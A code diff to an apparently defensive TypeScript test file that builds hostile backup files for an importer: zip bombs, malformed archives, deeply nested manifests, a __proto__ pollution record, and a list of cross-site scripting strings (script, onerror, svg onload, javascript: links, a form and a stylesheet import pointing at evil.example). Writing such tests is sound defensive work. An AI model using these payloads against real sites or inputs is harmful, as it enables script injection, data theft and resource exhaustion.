@@ -12,6 +12,10 @@ export interface HostileBackup {
 	readonly is: 'refused' | 'whole';
 	/** Made when it is wanted: some are large. */
 	readonly bytes: () => Uint8Array;
+	/** It, or what it would make of itself, fills megabytes. */
+	readonly isLarge?: true;
+	/** What stands in every text of a whole one, and the deck it stands in. */
+	readonly holds?: { readonly words: string; readonly deck: string };
 }
 
 type Json = Record<string, unknown>;
@@ -22,6 +26,8 @@ const refused = (name: string, craft: () => Craft): HostileBackup => ({
 	is: 'refused',
 	bytes: () => craftBackup(craft())
 });
+
+const large = (backup: HostileBackup): HostileBackup => ({ ...backup, isLarge: true });
 
 /** The sample's first record of a part, changed. */
 const changed = (part: Part, change: (record: Json) => unknown, which = 0): Craft => {
@@ -77,12 +83,14 @@ const archives: readonly HostileBackup[] = [
 	})),
 	refused('two manifests', () => ({ files: (files) => [...files, files.at(-1)!] })),
 	refused('no manifest', () => ({ files: (files) => files.slice(0, -1) })),
-	refused('20,000 empty files', () => ({
-		files: (files) => [
-			...files,
-			...Array.from({ length: 20_000 }, (_, index) => pack(`media/${index}`, new Uint8Array()))
-		]
-	})),
+	large(
+		refused('20,000 empty files', () => ({
+			files: (files) => [
+				...files,
+				...Array.from({ length: 20_000 }, (_, index) => pack(`media/${index}`, new Uint8Array()))
+			]
+		}))
+	),
 	{
 		name: 'a list at the end that names other files than there are',
 		is: 'refused',
@@ -106,6 +114,7 @@ const archives: readonly HostileBackup[] = [
 	{
 		name: 'ten million headers of files that are none',
 		is: 'refused',
+		isLarge: true,
 		bytes: () => {
 			const bytes = new Uint8Array(10_000_000);
 			for (let at = 0; at < bytes.length; at += 4) bytes.set([0x50, 0x4b, 3, 4], at);
@@ -136,18 +145,20 @@ const bombs: readonly HostileBackup[] = [
 	['says more', 1_000_000, 30_000_000],
 	['says four gigabytes', 1_000_000, 0xffff_fffe]
 ].map(([name, size, says]) =>
-	refused(`a bomb that ${name}`, () => ({
-		manifest: (manifest) => ({
-			...manifest,
-			files: (manifest.files as Json[]).map((file) =>
-				file.name === fileName('notes', 0) ? { ...file, bytes: says } : file
-			)
-		}),
-		files: (files) =>
-			files.map((file) =>
-				file.name === fileName('notes', 0) ? bomb(size as number, says as number) : file
-			)
-	}))
+	large(
+		refused(`a bomb that ${name}`, () => ({
+			manifest: (manifest) => ({
+				...manifest,
+				files: (manifest.files as Json[]).map((file) =>
+					file.name === fileName('notes', 0) ? { ...file, bytes: says } : file
+				)
+			}),
+			files: (files) =>
+				files.map((file) =>
+					file.name === fileName('notes', 0) ? bomb(size as number, says as number) : file
+				)
+		}))
+	)
 );
 
 const nested = (open: string, close: string, depth: number) =>
@@ -173,7 +184,10 @@ const lines: readonly HostileBackup[] = [
 ].flatMap(([name, given]) => {
 	const dense = /brackets|lists|lines/.test(name!);
 	const parts = dense ? (['notes', 'updates'] as const) : (['notes'] as const);
-	return parts.map((part) => refused(`${name}, as ${part}`, () => ({ parts: { [part]: given! } })));
+	const mark = given!.length > 500_000 ? large : (backup: HostileBackup) => backup;
+	return parts.map((part) =>
+		mark(refused(`${name}, as ${part}`, () => ({ parts: { [part]: given! } })))
+	);
 });
 
 const manifests: readonly HostileBackup[] = [
@@ -204,12 +218,14 @@ const manifests: readonly HostileBackup[] = [
 		manifest: (manifest) => set({ ...manifest }, '__proto__', { polluted: true })
 	})),
 	refused('a manifest that is a list', () => ({ manifest: (manifest) => [manifest] })),
-	refused('a manifest of ten million brackets', () => ({
-		files: (files) => [
-			...files.slice(0, -1),
-			pack('manifest.json', text(nested('[', ']', 10_000_000)))
-		]
-	}))
+	large(
+		refused('a manifest of ten million brackets', () => ({
+			files: (files) => [
+				...files.slice(0, -1),
+				pack('manifest.json', text(nested('[', ']', 10_000_000)))
+			]
+		}))
+	)
 ];
 
 /** Values that no field of a record takes. */
@@ -349,21 +365,15 @@ const records: readonly HostileBackup[] = [
 ];
 
 const SCRIPTS: readonly (readonly [name: string, words: string])[] = [
-	['a script', '<script>globalThis.hacked = true</script>'],
-	['an image that fails', '<img src=x onerror="globalThis.hacked = true">'],
-	['an SVG', '<svg/onload=globalThis.hacked=true>'],
-	['SVG in SVG', '<svg><style><img title="</style><img src onerror=globalThis.hacked=true>">'],
-	['a frame', '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>'],
-	[
-		'a form',
-		'<form action="https://evil.example"><input autofocus onfocus=globalThis.hacked=true>'
-	],
-	[
-		'a link',
-		'[click](javascript:globalThis.hacked=true) <a href="javascript:globalThis.hacked=true">'
-	],
+	['a script', '<script>ran(1)</script>'],
+	['an image that fails', '<img src=x onerror="ran(1)">'],
+	['an SVG', '<svg/onload=ran(1)>'],
+	['SVG in SVG', '<svg><style><img title="</style><img src onerror=ran(1)>">'],
+	['a frame', '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>'],
+	['a form', '<form action="https://evil.example"><input autofocus onfocus=ran(1)>'],
+	['a link', '[click](javascript:ran(1)) <a href="javascript:ran(1)">'],
 	['a style', '<style>@import "https://evil.example/steal.css"</style>'],
-	['a template', '{@html "<script>globalThis.hacked = true</script>"} ${globalThis.hacked = true}'],
+	['a template', '{@html "<script>ran(1)</script>"} ${ran(1)}'],
 	['words from right to left', '\u202egnp.exe\u2066\u2069 \u200f\u061c'],
 	['marks without end', `Z${'\u0301'.repeat(5000)}`],
 	['nothing but blanks', ' \u00a0\u200b\ufeff\u3000 '],
@@ -371,22 +381,28 @@ const SCRIPTS: readonly (readonly [name: string, words: string])[] = [
 	['a very long word', 'W'.repeat(19_000)]
 ];
 
+/** The sample, of a deck of this name: they can be added to each other. */
+const recordsOf = (deck: string) =>
+	JSON.parse(
+		JSON.stringify(sampleRecords())
+			.replaceAll('"maps', `"${deck}`)
+			.replaceAll('-phone', `-phone${deck}`)
+	) as Record<Part, Json[]>;
+
 /** In every text there is: it is shown as the words that it is. */
-const texts: readonly HostileBackup[] = SCRIPTS.map(([name, words]) => ({
+const texts: readonly HostileBackup[] = SCRIPTS.map(([name, words], index) => ({
 	name: `${name} in every text`,
 	is: 'whole',
+	holds: { words, deck: `maps${index}` },
 	bytes: () => {
-		const { decks, notes, updates } = structuredClone(sampleRecords()) as unknown as {
-			decks: Json[];
-			notes: Json[];
-			updates: Json[];
-		};
+		const records = recordsOf(`maps${index}`);
+		const { decks, notes, updates } = records;
 		const [head, note] = [decks[0]!.head as Json, notes[0]!.note as Json];
 		Object.assign(head, { title: words, licence: words, description: words, language: words });
 		Object.assign((head.sources as Json[])[0]!, { title: words, publisher: words, author: words });
 		Object.assign((head.sources as Json[])[0]!, {
 			leftOut: [{ from: 1, to: 2, why: words }],
-			link: `https://gazette.example/"onmouseover="globalThis.hacked=true`
+			link: `https://gazette.example/"onmouseover="ran(1)`
 		});
 		Object.assign(note, { term: words, meaning: words, also: [words], topic: words });
 		Object.assign(note, { explanation: words, decoys: [words], tags: [words] });
@@ -412,7 +428,7 @@ const texts: readonly HostileBackup[] = SCRIPTS.map(([name, words]) => ({
 				{ kind: 'retired', noteId, reason: words }
 			]
 		});
-		return craftBackup({ parts: { decks, notes, updates } });
+		return craftBackup({ parts: records });
 	}
 }));
 
